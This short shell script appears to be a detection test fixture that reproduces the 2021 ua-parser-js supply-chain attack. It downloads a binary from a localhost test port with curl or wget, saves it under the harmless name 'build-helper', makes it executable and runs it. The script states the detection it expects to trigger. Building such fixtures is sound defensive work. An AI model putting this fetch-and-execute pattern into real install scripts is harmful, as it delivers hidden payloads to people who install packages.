#!/bin/sh
# technique: T1105 Ingress Tool Transfer
# reproduces: ua-parser-js (2021): preinstall.sh ran `curl URL -o jsextension` in the package's working directory, `chmod +x jsextension`, then `./jsextension ...`
# expect: dropped-file-executed ^build-helper$
# exec-borne: yes
#
# Downloaded into the checkout under a harmless name and run from there:
# nothing under /tmp, nothing hidden.
set -u

helper=./build-helper
trap 'rm -f "$helper"' EXIT

if ! pgrep -x build-helper >/dev/null 2>&1; then
	curl -s "http://127.0.0.1:${BW_ATTACK_PORT:?}/agent" -o "$helper"
	if [ ! -f "$helper" ]; then
		wget -q "http://127.0.0.1:${BW_ATTACK_PORT:?}/agent" -O "$helper"
	fi
	chmod +x "$helper"
	"$helper" --init
fi
